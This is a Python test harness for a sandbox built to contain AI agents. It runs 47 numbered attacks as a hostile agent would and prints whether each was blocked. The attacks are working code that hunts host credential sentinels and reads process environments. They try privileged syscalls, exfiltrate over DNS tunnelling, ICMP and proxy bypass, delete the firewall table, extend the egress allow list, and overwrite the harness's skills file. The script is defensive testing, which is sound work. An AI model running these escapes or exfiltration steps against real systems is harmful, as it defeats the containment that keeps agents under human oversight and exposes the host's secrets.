#!/usr/bin/env python3
# The attack corpus, run inside a sandbox as a hostile agent would: each attack prints
# "ID blocked" when the sandbox held, or "ID BREACH: what happened" when it did not. The
# IDs name the rows of docs/threat-model.md. Arguments: the test servers' ports and the
# host's address, and sentinel names the host planted outside the project.
import ctypes, errno, json, os, socket, subprocess, sys, urllib.request

ports = json.loads(sys.argv[1])
host_ip = sys.argv[2]
sentinel = sys.argv[3]
host_env_name = sys.argv[4]
libc = ctypes.CDLL(None, use_errno=True)
results = []

def result(ident, held, detail=""):
    print(ident, "blocked" if held else "BREACH: " + detail, flush=True)

def attempt(ident, fn):
    """fn raises (or returns False) when blocked; returning True means it worked."""
    try:
        worked = fn()
    except (OSError, subprocess.SubprocessError, ValueError) as e:
        return result(ident, True)
    result(ident, not worked, "it worked")

def run(*argv):
    return subprocess.run(argv, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=20).returncode == 0

def syscall(nr, *args):
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args])
    if r < 0:
        raise OSError(ctypes.get_errno(), "syscall %d" % nr)
    return True

# T1: the host's files.
for ident, path in [("A01", "/etc/aisb-attack"), ("A02", "/usr/bin/aisb-attack"), ("A03", "/opt/aisb-attack")]:
    attempt(ident, lambda p=path: open(p, "w").write("x") or True)
attempt("A04", lambda: os.unlink("/usr/bin/ls") or True)
def find_sentinel():
    found = subprocess.run(["find", "/", "-xdev", "-name", sentinel + "*"], stdout=subprocess.PIPE,
                           stderr=subprocess.DEVNULL, timeout=60).stdout.decode()
    found += subprocess.run(["find", "/project", "/home", "/tmp", "/root", "-name", sentinel + "*"],
                            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=60).stdout.decode()
    return bool(found.strip())
attempt("A05", find_sentinel)                                   # ~/.ssh, ~/.aws sentinels anywhere
attempt("A06", lambda: os.path.exists(os.path.expanduser("~/.ssh/" + sentinel)))
attempt("A07", lambda: any(sentinel in n for n in os.listdir("/project/..")))
attempt("A08", lambda: any(os.listdir("/root")))

# T2: the host's environment and processes.
attempt("A09", lambda: host_env_name in os.environ)
def environ_leak():
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                if host_env_name.encode() in open("/proc/%s/environ" % pid, "rb").read():
                    return True
            except OSError:
                pass
    return False
attempt("A10", environ_leak)
def host_processes():
    names = set()
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                names.add(open("/proc/%s/comm" % pid).read().strip())
            except OSError:
                pass
    return bool(names & {"podman", "conmon", "aisb", "systemd", "sshd", "slirp4netns"})
attempt("A11", host_processes)

# T3: privilege.
attempt("A12", lambda: os.setuid(0) or True)
attempt("A13", lambda: run("unshare", "-n", "true"))
attempt("A14", lambda: run("unshare", "-U", "true"))
attempt("A15", lambda: run("unshare", "-m", "true"))
attempt("A16", lambda: libc.mount(b"tmpfs", b"/mnt", b"tmpfs", 0, None) == 0)
attempt("A17", lambda: os.chown("/project", 0, 0) or True)
attempt("A18", lambda: syscall(321, 0, 0, 0))                  # bpf
attempt("A19", lambda: syscall(250, 0, 0, 0, 0, 0))            # keyctl
attempt("A20", lambda: syscall(298, 0, 0, -1, -1, 0))          # perf_event_open
attempt("A21", lambda: syscall(323, 0))                        # userfaultfd
attempt("A22", lambda: syscall(425, 1, 0))                     # io_uring_setup
attempt("A23", lambda: syscall(175, 0, 0, 0))                  # init_module
attempt("A24", lambda: syscall(246, 0, 0, 0, 0))               # kexec_load
attempt("A25", lambda: syscall(308, 0, 0x40000000))            # setns(CLONE_NEWNET)
# The host's kernel log (addresses, other users' events): syslog is denied.
attempt("A26", lambda: run("dmesg"))

# T4: egress. The proxy is the only way out, and it answers 403 to anything unlisted.
proxy = os.environ.get("http_proxy", "")
def through_proxy(url):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": proxy, "https": proxy}))
    return opener.open(url, timeout=5).status == 200
def direct(addr, port):
    socket.create_connection((addr, port), timeout=3).close()
    return True
attempt("A27", lambda: run("curl", "-sf", "-m", "5", "http://denied.test:%d/" % ports["http"]))
attempt("A28", lambda: through_proxy("http://denied.test:%d/" % ports["http"]))
attempt("A29", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) and True)
def udp(addr, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04exfl\x04test\x00\x00\x01\x00\x01", (addr, port))
    s.recvfrom(512)
    return True
attempt("A30", lambda: udp(host_ip, 53))
def icmp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.settimeout(3)
    s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (host_ip, 0))
    s.recvfrom(64)
    return True
attempt("A31", icmp)
attempt("A32", lambda: socket.create_connection(("fd00::2", ports["wide"]), timeout=3) and True)
attempt("A33", lambda: udp("10.0.2.3", 53))
attempt("A34", lambda: direct("10.0.2.3", 53))
attempt("A35", lambda: socket.getaddrinfo("example.com", 80) and True)
# DNS tunnelling through the gate: data in a name the gate would have to resolve.
attempt("A36", lambda: run("curl", "-sf", "-m", "5", "http://c2VjcmV0LWRhdGE.exfil.denied.test:%d/" % ports["http"]))
attempt("A37", lambda: run("curl", "-sf", "-m", "5", "-p", "http://allowed.test:%d/" % ports["other"]))
attempt("A38", lambda: run("curl", "-sf", "-m", "5", "http://%s:%d/" % (host_ip, ports["wide"])))
attempt("A39", lambda: run("curl", "-sf", "-m", "5", "http://badallowed.test:%d/" % ports["http"]))
attempt("A40", lambda: run("curl", "-sf", "-m", "5", "http://allowed.test.denied.test:%d/" % ports["http"]))
attempt("A41", lambda: run("curl", "-sf", "-m", "5", "--noproxy", "*", "http://10.0.2.2:%d/" % ports["http"]))

# T5: weakening what holds the next run.
def delete_table():
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
    import struct
    def msg(t, f, seq, p):
        return struct.pack("=LHHLL", 16 + len(p), t, f, seq, 0) + p
    gen = lambda fam, res=0: struct.pack("=BBH", fam, 0, socket.htons(res))
    attr = struct.pack("=HH", 9, 1) + b"aisb\0" + b"\0" * 3
    s.send(msg(0x10, 1, 1, gen(0, 10)) + msg((10 << 8) | 2, 5, 2, gen(1) + attr) + msg(0x11, 1, 3, gen(0, 10)))
    s.settimeout(5)
    reply = s.recv(65536)
    code = struct.unpack("=i", reply[16:20])[0] if struct.unpack("=H", reply[4:6])[0] == 2 else None
    return code == 0
attempt("A42", delete_table)
attempt("A43", lambda: open("/project/.ai-sandbox/allow", "a").write("evil.test\n") or True)

# T6: host services.
attempt("A44", lambda: direct("10.0.2.2", ports["other"]))
def podman_socket():
    for path in ["/run/user/%d/podman/podman.sock" % os.getuid(), "/run/podman/podman.sock",
                 "/tmp/podman-run-%d/podman/podman.sock" % os.getuid()]:
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect(path)
            return True
        except OSError:
            pass
    return False
attempt("A45", podman_socket)

# T7: resources the host cannot lose to a sandbox. A full /tmp is a cap, not the host's disk.
def disk_bomb():
    with open("/tmp/fill", "wb") as f:
        for _ in range(2048):
            f.write(b"\0" * (1 << 20))
    return True
attempt("A46", disk_bomb)
os.path.exists("/tmp/fill") and os.unlink("/tmp/fill")

# T8: the harness's configuration.
attempt("A47", lambda: open(os.path.expanduser("~/.agents/skills/one.md"), "w").write("evil") or True)
